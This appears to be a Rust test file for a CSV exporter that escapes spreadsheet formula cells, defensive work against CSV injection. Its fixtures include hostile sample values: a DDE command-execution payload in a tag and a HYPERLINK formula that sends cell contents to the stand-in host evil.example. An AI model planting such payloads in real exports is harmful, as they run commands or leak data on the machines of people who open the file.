use std::collections::BTreeMap;

use app::model::{MappingStatus, Outcome};

use super::*;

#[test]
fn cells_that_start_like_a_formula_are_escaped_and_others_are_kept() {
    for (cell, want) in [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (
            "=HYPERLINK(\"https://evil.example\",\"Open\")",
            "'=HYPERLINK(\"https://evil.example\",\"Open\")",
        ),
        // A leading tab or line break, and the sign after it (a tab import splits there).
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("\tplain", "'\tplain"),
        // After what an import may drop: spaces, no-break and ideographic spaces, a byte-order
        // mark, a zero-width space, a soft hyphen.
        ("   =1+1", "   '=1+1"),
        ("\u{A0}=1+1", "\u{A0}'=1+1"),
        ("\u{3000}+1", "\u{3000}'+1"),
        ("\u{FEFF}=1+1", "\u{FEFF}'=1+1"),
        ("\u{200B}=1+1", "\u{200B}'=1+1"),
        ("\u{AD}@x", "\u{AD}'@x"),
        // Full-width and small forms.
        ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
        ("\u{FF20}x", "'\u{FF20}x"),
        ("\u{FE66}1", "'\u{FE66}1"),
        ("\u{FE63}1", "'\u{FE63}1"),
        // Where a semicolon-locale Excel or a tab import starts a new cell inside ours.
        (
            "Invoice;=HYPERLINK(CHAR(104))",
            "Invoice;'=HYPERLINK(CHAR(104))",
        ),
        ("a; +1;b;-2", "a; '+1;b;'-2"),
        ("first line\r\n@cmd", "first line\r\n'@cmd"),
        ("x\t=1", "x\t'=1"),
        // Ordinary text, including the signs anywhere a cell cannot start.
        ("", ""),
        ("Your AWS password reset", "Your AWS password reset"),
        ("a=b", "a=b"),
        ("x-y-z@mail.test.example", "x-y-z@mail.test.example"),
        ("'=already quoted", "'=already quoted"),
        ("2026-12-04T10:00:00Z", "2026-12-04T10:00:00Z"),
        ("a;b, c-d", "a;b, c-d"),
        ("   plain", "   plain"),
        ("\u{A0}plain", "\u{A0}plain"),
    ] {
        assert_eq!(safe_cell(cell), want, "{cell:?}");
    }
}

fn hostile_mapping() -> Mapping {
    Mapping {
        address: "team-web-dev-001@mail.test.example".into(),
        account_name: "team-web-dev-001".into(),
        base: Some("team-web-dev".into()),
        counter: Some(1),
        account_type: "Sales".into(),
        owner: "jdoe@corp.example".into(),
        tags: BTreeMap::from([
            ("CostCentre".to_string(), "=cmd|' /C calc'!A0".to_string()),
            ("Team".to_string(), "web, \"core\"".to_string()),
        ]),
        status: MappingStatus::Active,
        aws_account_id: None,
        account: None,
        notes: Some("-2+3\nsecond line, with a comma and a \"quote\"".into()),
        created_at: "2026-12-04T10:00:00Z".into(),
        created_by: "token:1:pipeline".into(),
        updated_at: "2026-12-04T10:00:00Z".into(),
        updated_by: "token:1:pipeline".into(),
        recipients: Vec::new(),
        unreachable: Vec::new(),
    }
}

fn hostile_message() -> MessageRecord {
    MessageRecord {
        id: "m-1/team-web-dev-001@mail.test.example".into(),
        ses_message_id: "m-1".into(),
        recipient: "team-web-dev-001@mail.test.example".into(),
        sender: "@attacker.example".into(),
        subject: Some("=HYPERLINK(\"https://evil.example/?\"&A1,\"Reset\")".into()),
        size: 1234,
        verdicts: "spam:PASS virus:PASS".into(),
        outcome: Outcome::Forwarded,
        delivered_to: Some("jdoe@corp.example".into()),
        detail: "forwarded to the owner".into(),
        mailer_message_id: None,
        error: None,
        attempts: 1,
        received_at: "2026-12-04T10:00:00Z".into(),
        updated_at: "2026-12-04T10:00:01Z".into(),
        delivery: None,
        class: Some(app::model::MailClass::Credential),
        policy: Some(app::model::ClassPolicy::Restricted),
    }
}

/// Reads `bytes` back as a CSV reader would: the header and every row as strings.
fn read(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

#[test]
fn a_hostile_mapping_reads_back_cell_for_cell_with_formulas_escaped() {
    let m = hostile_mapping();
    let bytes = encode(std::slice::from_ref(&m), true);
    assert!(bytes.ends_with(b"\r\n"), "rows end with CRLF");
    let (header, rows) = read(&bytes);
    assert_eq!(header, Mapping::HEADER);
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(row.len(), Mapping::HEADER.len());
    let cell = |name: &str| &row[Mapping::HEADER.iter().position(|h| *h == name).unwrap()];
    assert_eq!(cell("address"), &m.address);
    assert_eq!(cell("status"), "active");
    assert_eq!(cell("counter"), "1");
    assert_eq!(cell("aws_account_id"), "");
    assert_eq!(
        cell("notes"),
        "'-2+3\nsecond line, with a comma and a \"quote\""
    );
    // The tags are one JSON object; its text starts with `{`, so it needs no escape and
    // parses back to the same tags.
    let tags: BTreeMap<String, String> = serde_json::from_str(cell("tags")).unwrap();
    assert_eq!(tags, m.tags);
}

#[test]
fn a_hostile_message_reads_back_with_sender_and_subject_escaped() {
    let r = hostile_message();
    let (header, rows) = read(&encode(&[r.clone(), r.clone()], true));
    assert_eq!(header, MessageRecord::HEADER);
    assert_eq!(rows.len(), 2);
    let cell = |name: &str| {
        &rows[1][MessageRecord::HEADER
            .iter()
            .position(|h| *h == name)
            .unwrap()]
    };
    assert_eq!(cell("sender"), "'@attacker.example");
    assert_eq!(
        cell("subject"),
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Reset\")"
    );
    assert_eq!(cell("outcome"), "forwarded");
    assert_eq!(cell("attempts"), "1");
    assert_eq!(cell("size"), "1234");
    assert_eq!(cell("id"), &r.id);
    assert_eq!(cell("class"), "credential");
    assert_eq!(cell("policy"), "restricted");
}

#[test]
fn every_row_has_as_many_cells_as_the_header_and_later_chunks_have_no_header() {
    assert_eq!(
        hostile_mapping().cells().len(),
        Mapping::HEADER.len(),
        "mapping"
    );
    assert_eq!(
        hostile_message().cells().len(),
        MessageRecord::HEADER.len(),
        "message"
    );
    let chunk = encode(&[hostile_message()], false);
    assert!(!chunk.starts_with(b"received_at"));
    assert_eq!(encode::<MessageRecord>(&[], true), b"received_at,recipient,sender,subject,outcome,delivered_to,detail,error,attempts,size,verdicts,id,ses_message_id,mailer_message_id,updated_at,delivery_state,delivery_detail,delivery_at,class,policy\r\n");
}
